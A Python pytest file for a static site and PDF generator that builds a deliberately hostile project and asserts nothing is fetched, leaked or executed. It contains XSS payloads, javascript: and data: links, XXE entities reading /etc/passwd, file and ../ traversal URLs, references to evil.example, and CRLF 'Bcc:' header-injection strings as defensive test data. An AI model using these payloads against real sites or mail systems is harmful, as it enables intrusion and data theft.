"""Untrusted data cannot escape: no fetch, no leak, no script, no injection.

One hostile project is built in full (``guidegen build``: site, guides, private
plan pages). Its brand's template overrides, stylesheet and logo, and a content
module, reach for /etc/passwd, a secret file beside the project (by ``../`` and by
absolute path) and a real HTTP server on 127.0.0.1, through routes
tests/test_fetch_security.py does not take: ``<link rel=attachment>`` (which
WeasyPrint embeds in the PDF), ``<link rel=stylesheet>``, ``<object>``,
``<embed>``, inline SVG ``<image>``, raw HTML ``<img>`` with ``file:`` and ``../``
URLs, string ``@import``, ``@font-face``, ``list-style-image``, ``content: url()``,
``border-image``, and an SVG logo with external entities (XXE) and external images.
The content module also carries script in every form Markdown allows; a runner's
roster row carries markup, formulas, and RFC 5545 special characters.

Then: the server receives no request, no output holds a byte of the secrets, no
page (guide, plan, site, feed) carries a script, an event handler or a
``javascript:``/``data:text/html`` link, and the calendar escapes what it must.
Loader-level refusals (CR/LF in names, unsafe ids) and plan tokens are tested at
the end.
"""

from __future__ import annotations

import html as html_lib
import json
import re
from collections.abc import Iterator
from pathlib import Path

import icalendar
import lxml.etree
import lxml.html
import pytest
from pypdf import PdfReader

from generator.core.errors import ConfigError
from generator.load.brands import load_brand
from generator.load.roster import Athlete
from generator.publish.layout import OutputLayout
from generator.publish.plans import MIN_SECRET_LENGTH, plan_secret, plan_token
from tests.conftest import (
    REPO_ROOT,
    SCRATCH_BRAND_TOML,
    SCRATCH_RACE_MD,
    SCRATCH_TOML,
    SCRATCH_TRAINING_MD,
    copy_example,
    invoke_cli,
)
from tests.guidekit import EPOCH, every_byte, page_texts, recording_server

SECRET = "TOPSECRET-5e1f-never-in-an-output"
PLAN_SECRET = "plan-secret-for-the-hostile-build-0123456789"
PASSWD_MARK = b"root:x:0:0"
HOSTILE_NAME = "<script>alert('name')</script> O'Brien & \"Søn\" =1+1"
HOSTILE_RACE = "Race, with; semis <b>bold</b>"
HOSTILE_NOTES = "</p><img src=x onerror=alert('notes')> @SUM(A1) \\n not a break"


@pytest.fixture(scope="module")
def server() -> Iterator[tuple[str, list[str]]]:
    with recording_server() as recorded:
        yield recorded


def hostile_files(url: str, secret: Path) -> dict[str, str]:
    guide = (REPO_ROOT / "templates" / "guide.html.j2").read_text(encoding="utf-8")
    head = (f'<link rel="attachment" href="{url}/attach.txt">\n'
            '<link rel="attachment" href="file:///etc/passwd">\n'
            f'<link rel="attachment" href="{secret}">\n'
            '<link rel="attachment" href="../../../secret.txt">\n'
            f'<link rel="stylesheet" href="{url}/sheet.css">\n</head>')
    body = ('<body>\n<img src="file:///etc/passwd" alt="">'
            f'<object data="{url}/object.png">o</object><embed src="{url}/embed.png">'
            f'<svg width="8" height="8"><image href="{url}/inline-svg.png" width="4" '
            'height="4"/></svg>\n')
    css = (f'@import "{secret.as_uri()}";\n'
           f'@font-face {{ font-family: Leak; src: url("file:///etc/passwd"); }}\n'
           f'.toc li {{ list-style-image: url("{url}/list.png"); }}\n'
           f'.cover__title::after {{ content: url("{url}/content.png"); }}\n'
           f'.book {{ border-image-source: url("{url}/border.png"); border-image-slice: 1; }}\n'
           '.cover__title { font-family: Leak, sans-serif; }\n')
    logo = ('<?xml version="1.0"?>\n'
            f'<!DOCTYPE svg [<!ENTITY passwd SYSTEM "file:///etc/passwd">'
            f'<!ENTITY secret SYSTEM "{secret.as_uri()}">]>\n'
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
            ' width="120" height="40"><rect width="120" height="40" fill="#0b5d6b"/>'
            '<text x="4" y="20">&passwd;&secret;</text>'
            f'<image xlink:href="{url}/logo-image.png" width="8" height="8"/>'
            '<image href="file:///etc/passwd" width="8" height="8"/></svg>\n')
    module = f"""\
---
title: "Hostile </script><script>alert('title')</script>"
summary: "<img src=x onerror=alert('summary')>"
order: 30
---

<script>alert('script')</script>
<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
<img src=x onerror="alert('onerror')"> <svg onload="alert('svg')"></svg>
<a href="javascript:alert('link')">a</a> <a href="JaVaScRiPt:alert('case')">b</a>
<a href="&#106;avascript:alert('entity')">c</a> <a href="vbscript:msgbox('vb')">d</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">e</a>
<iframe src="https://evil.example/frame"></iframe> <object data="https://evil.example/o">
</object> <form action="https://evil.example/f"><button formaction="javascript:alert(1)">f
</button></form> <meta http-equiv="refresh" content="0;url=https://evil.example/r">
<base href="https://evil.example/"> <div style="background:url({url}/style.png)">g</div>
<details open ontoggle="alert('toggle')">h</details>

[markdown link](javascript:alert('md')) and ![raw image](data:text/html,<b>x</b>)

<img src="file:///etc/passwd" alt="raw file"> <img src="../../secret.txt" alt="raw up">
<img src="{url}/raw.png" alt="raw http">
"""
    return {
        "guidegen.toml": SCRATCH_TOML,
        "brands/clinic/brand.toml": SCRATCH_BRAND_TOML,
        "brands/clinic/logo.svg": logo,
        "brands/clinic/templates/guide.html.j2": guide.replace("</head>", head, 1)
        .replace("<body>", body, 1),
        "brands/clinic/templates/assets/guide.css":
            css + (REPO_ROOT / "templates" / "assets" / "guide.css").read_text(encoding="utf-8"),
        "content/training.md": SCRATCH_TRAINING_MD,
        "content/race-days.md": SCRATCH_RACE_MD,
        "content/hostile.md": module,
    }


def roster_csv() -> str:
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["id", "name", "race_name", "race_date", "training_start", "notes"])
    writer.writerow(["hostile-01", HOSTILE_NAME, HOSTILE_RACE, "2027-04-18", "2027-01-03",
                     HOSTILE_NOTES])
    writer.writerow(["plain-02", "Plain Runner", "Plain Marathon", "2027-05-16", "", ""])
    return buffer.getvalue()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, server) -> dict:
    url, _requests = server
    base = tmp_path_factory.mktemp("hostile")
    secret = base / "secret.txt"
    secret.write_text(SECRET + "\n", encoding="utf-8")
    root = base / "project"
    files = {**hostile_files(url, secret), "data/athletes.csv": roster_csv()}
    copy_example(root, ("templates",), files=files)
    out = base / "out"
    result = invoke_cli(["build", "--out", out, "--jobs", "1"], cwd=root,
                        env={"SOURCE_DATE_EPOCH": EPOCH, "GUIDEGEN_PLAN_SECRET": PLAN_SECRET},
                        catch_exceptions=False)
    return {"root": root, "out": out, "url": url, "secret": secret, "result": result}


def _files(out: Path, *suffixes: str) -> list[Path]:
    return sorted(p for p in out.rglob("*") if p.is_file() and p.suffix in suffixes)


def test_the_hostile_build_succeeds_with_warnings_only(hostile):
    result = hostile["result"]
    assert result.exit_code == 0, result.stderr
    out = hostile["out"]
    assert len(_files(out / "guides", ".pdf")) == 2
    assert len(_files(out / "site" / "plans", ".pdf")) == 2
    assert (out / "site" / "hostile" / "index.html").is_file()


def test_the_local_server_received_no_request(hostile, server):
    _url, requests = server
    assert hostile["result"].exit_code == 0
    assert requests == []


def test_every_route_was_tried_and_refused(hostile):
    """The routes are live (WeasyPrint asked for them) and the fetcher said no."""
    url, secret = hostile["url"], hostile["secret"]
    refused = {line.split("refused to fetch ", 1)[1].split(" (only", 1)[0]
               for line in hostile["result"].stderr.splitlines() if "refused to fetch " in line}
    expected = {f"{url}/attach.txt", "file:///etc/passwd", secret.as_uri(),
                f"{url}/sheet.css", f"{url}/object.png", f"{url}/embed.png",
                f"{url}/inline-svg.png", f"{url}/list.png", f"{url}/content.png",
                f"{url}/border.png", f"{url}/raw.png"}
    assert expected <= refused, sorted(expected - refused)
    assert all(u.startswith(("file:", url)) for u in refused), refused


def test_no_output_holds_a_byte_of_any_secret(hostile):
    secrets = [SECRET.encode(), PLAN_SECRET.encode(), PASSWD_MARK,
               Path("/etc/passwd").read_bytes().splitlines()[0]]
    for path in _files(hostile["out"], ".pdf", ".html", ".ics", ".xml", ".json", ".txt"):
        data = path.read_bytes()
        if path.suffix == ".pdf":
            reader = PdfReader(path)
            assert reader.attachments == {}, f"{path}: embedded files"
            data = every_byte(reader, data)
        for secret in secrets:
            assert secret not in data, f"{secret!r} in {path}"


def test_pdfs_carry_no_script_or_launch_action(hostile):
    for path in _files(hostile["out"], ".pdf"):
        data = every_byte(PdfReader(path), path.read_bytes())
        for marker in (b"/JavaScript", b"/JS ", b"/JS(", b"/Launch", b"javascript:",
                       b"evil.example"):
            assert marker not in data, f"{marker!r} in {path}"


# ---------------------------------------------------------------- no script reaches a page

URL_ATTRS = {"href", "src", "action", "formaction", "data", "poster", "xlink:href",
             "{http://www.w3.org/1999/xlink}href", "background", "content"}


def _dangerous(doc) -> list[str]:
    found = []
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.rsplit("}", 1)[-1].lower()
        if tag == "script":
            if (el.get("type") or "") != "application/ld+json":
                found.append(f"<script> {lxml.html.tostring(el)[:80]!r}")
            else:
                json.loads(el.text or "")  # still one JSON value: nothing broke out
        if tag in ("iframe", "frame", "form", "base") or (
                tag == "meta" and (el.get("http-equiv") or "").lower() == "refresh"):
            found.append(f"<{tag}>")
        for name, value in el.attrib.items():
            name = name.lower()
            if name.startswith("on"):
                found.append(f"{tag} {name}={value!r}")
            if name in URL_ATTRS or name.endswith("href"):
                squashed = re.sub(r"[\x00-\x20]", "", value).lower()
                if squashed.startswith(("javascript:", "vbscript:", "data:text/html")):
                    found.append(f"{tag} {name}={value!r}")
    return found


def _pages(out: Path) -> list[Path]:
    return _files(out, ".html")


def test_no_page_carries_a_script_handler_or_script_link(hostile):
    pages = _pages(hostile["out"])
    assert len(pages) >= 8  # guides, plan pages and the site
    problems = {}
    for page in pages:
        text = page.read_text(encoding="utf-8")
        found = _dangerous(lxml.html.document_fromstring(text))
        if "evil.example" in text:
            found.append("a reference to evil.example")
        if found:
            problems[str(page.relative_to(hostile["out"]))] = found
    assert not problems, problems


def test_the_feed_content_is_sanitised_too(hostile):
    feed = hostile["out"] / "site" / "feed.xml"
    tree = lxml.etree.parse(str(feed))
    contents = [el.text or "" for el in tree.iter("{*}content", "{*}summary")
                if el.get("type") in ("html", "xhtml")]  # type="text" is shown as text
    assert contents
    for content in contents:
        fragment = lxml.html.fragment_fromstring(f"<div>{content}</div>")
        assert _dangerous(fragment) == [], content[:200]


def test_the_module_title_cannot_break_out_of_json_ld(hostile):
    pages = [p for p in _pages(hostile["out"] / "site")
             if "application/ld+json" in p.read_text(encoding="utf-8")]
    assert pages
    for page in pages:
        doc = lxml.html.document_fromstring(page.read_text(encoding="utf-8"))
        scripts = doc.xpath("//script")
        assert [s.get("type") for s in scripts] == ["application/ld+json"]
        json.loads(scripts[0].text)


def test_athlete_markup_is_escaped_in_html_and_literal_in_pdf_text(hostile):
    out = hostile["out"]
    page = (out / "guides" / "clinic" / "hostile-01.html").read_text(encoding="utf-8")
    assert "<script>alert('name')" not in page and "<b>bold</b>" not in page
    assert html_lib.unescape(page).count(HOSTILE_NAME) >= 2
    assert html_lib.unescape(page).count(HOSTILE_RACE) >= 1
    text = " ".join(page_texts(PdfReader(out / "guides" / "clinic" / "hostile-01.pdf")))
    assert HOSTILE_NAME in text and HOSTILE_RACE in text
    assert "&lt;" not in text and "&amp;" not in text


# ---------------------------------------------------------------- calendars

def test_ics_escapes_commas_semicolons_and_round_trips_the_race_name(hostile):
    raw = (hostile["out"] / "guides" / "clinic" / "hostile-01.ics").read_bytes()
    unfolded = raw.replace(b"\r\n ", b"").decode("utf-8")
    summaries = [line for line in unfolded.split("\r\n") if line.startswith("SUMMARY:Race")]
    assert summaries == ["SUMMARY:Race day: Race\\, with\\; semis <b>bold</b>"]
    calendar = icalendar.Calendar.from_ical(raw)
    (race,) = [e for e in calendar.walk("VEVENT") if "Race day" in str(e["SUMMARY"])]
    assert str(race["SUMMARY"]) == f"Race day: {HOSTILE_RACE}"
    assert HOSTILE_NAME in str(race["DESCRIPTION"])
    assert "onerror" not in unfolded and "@SUM" not in unfolded, "notes stay out of the ICS"
    for line in raw.split(b"\r\n"):
        assert len(line) <= 75, line


def test_the_calendar_name_is_escaped_as_text_too(hostile):
    raw = (hostile["out"] / "guides" / "clinic" / "hostile-01.ics").read_bytes()
    unfolded = raw.replace(b"\r\n ", b"").decode("utf-8")
    assert "X-WR-CALNAME:Race\\, with\\; semis" in unfolded


# ---------------------------------------------------------------- loaders refuse injection

BASE_ROW = {"id": "ok-01", "name": "Ok Runner", "race_name": "Ok Marathon",
            "race_date": "2027-04-18", "email": "ok@example.com"}


@pytest.mark.parametrize(("field", "value"), [
    ("name", "Eve\r\nBcc: victim@evil.example"),
    ("name", "Eve\nSubject: hi"),
    ("name", "Eve\rX-Header: 1"),
    ("name", "Eve\u2028Bcc: x@evil.example"),
    ("race_name", "Race\r\nBcc: victim@evil.example"),
    ("email", "ok@example.com\r\nBcc: victim@evil.example"),
    ("email", "Eve <ok@example.com>"),
    ("email", "ok@example.com,victim@evil.example"),
    ("brand", "clinic\r\nx"),
    ("timezone", "Europe/London\nx"),
])
def test_a_line_break_in_a_header_bound_field_is_refused_by_the_loader(field, value):
    with pytest.raises(ValueError, match=field):
        Athlete.model_validate({**BASE_ROW, field: value})


def test_a_brand_name_with_a_line_break_is_refused_by_the_loader(tmp_path):
    folder = tmp_path / "clinic"
    folder.mkdir()
    (folder / "brand.toml").write_text(SCRATCH_BRAND_TOML.replace(
        'name = "Scratch Clinic"', 'name = "Scratch\\r\\nBcc: victim@evil.example"'))
    (folder / "logo.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>")
    brand, problems = load_brand(folder, tmp_path)
    assert brand is None
    assert [str(p) for p in problems] == [
        "clinic/brand.toml:1: name: must be one line without control characters "
        "(got 'Scratch\\r\\nBcc: victim@evil.example')"]


@pytest.mark.parametrize("bad_id", [
    "a/b", "../x", "..", ".", "x/../../etc", "a\\b", "x\x00", "\x00", "CON", "con", "nul",
    "NUL", "LPT1", "lpt9", "com1", "AUX", "PRN", "a b", "a.pdf", "%2e%2e", "~root", "x" * 65,
    "zoë", "ａｂｃ", "a:b", "",
])
def test_unsafe_ids_are_refused(bad_id):
    with pytest.raises(ValueError, match="id"):
        Athlete.model_validate({**BASE_ROW, "id": bad_id or " "})


@pytest.mark.parametrize("good_id", ["a", "A-1_b", "0" * 64, "con-01", "lpt10", "nul_"])
def test_output_paths_of_valid_ids_stay_inside_the_output_folder(tmp_path, good_id):
    athlete = Athlete.model_validate({**BASE_ROW, "id": good_id})
    out = tmp_path / "out"
    layout = OutputLayout(out)
    paths = [*layout.guide_paths("clinic", athlete.id).values(),
             *layout.plan_paths(plan_token(b"k" * 32, athlete.id)).values()]
    for path in paths:
        assert path.resolve().is_relative_to(out.resolve())
        assert path.name.startswith(("index.", "guide.", "plan.", f"{athlete.id}."))


# ---------------------------------------------------------------- plan tokens

def test_plan_tokens_need_the_secret():
    ids = ["hb-zoe-01", "hb-zoe-02", "a", "sm-hanako-03"]
    one, two = b"s" * MIN_SECRET_LENGTH, b"t" * MIN_SECRET_LENGTH
    tokens = {(secret, i): plan_token(secret, i) for secret in (one, two) for i in ids}
    assert len(set(tokens.values())) == len(tokens), "unique per id and per secret"
    for i in ids:
        token = tokens[(one, i)]
        assert tokens[(two, i)] != token, "not a function of the id alone"
        assert len(i) < 3 or i not in token
        assert re.fullmatch(r"[a-z2-7]+", token), "URL-safe"
        assert len(token) * 5 >= 128, "at least 128 bits"
        assert plan_token(one, i) == token, "stable for the same secret"
    # nothing an attacker could compute from the id alone gives the token
    import hashlib

    for i in ids:
        for guess in (hashlib.sha256(i.encode()).hexdigest(), i, i.lower()):
            assert guess[:32] != tokens[(one, i)]


@pytest.mark.parametrize("value", [None, "", "short-secret"])
def test_plan_pages_refuse_a_missing_or_short_secret(monkeypatch, value):
    if value is None:
        monkeypatch.delenv("GUIDEGEN_PLAN_SECRET", raising=False)
    else:
        monkeypatch.setenv("GUIDEGEN_PLAN_SECRET", value)
    with pytest.raises(ConfigError, match="GUIDEGEN_PLAN_SECRET"):
        plan_secret()


def test_plan_folders_are_the_tokens_and_name_no_runner(hostile):
    folders = sorted(p.name for p in (hostile["out"] / "site" / "plans").iterdir() if p.is_dir())
    secret = PLAN_SECRET.encode()
    assert folders == sorted(plan_token(secret, i) for i in ("hostile-01", "plain-02"))
    public = [p for p in (hostile["out"] / "site").rglob("*")
              if p.is_file() and "plans" not in p.relative_to(hostile["out"]).parts]
    for path in public:
        data = path.read_bytes()
        assert not any(token.encode() in data for token in folders), path
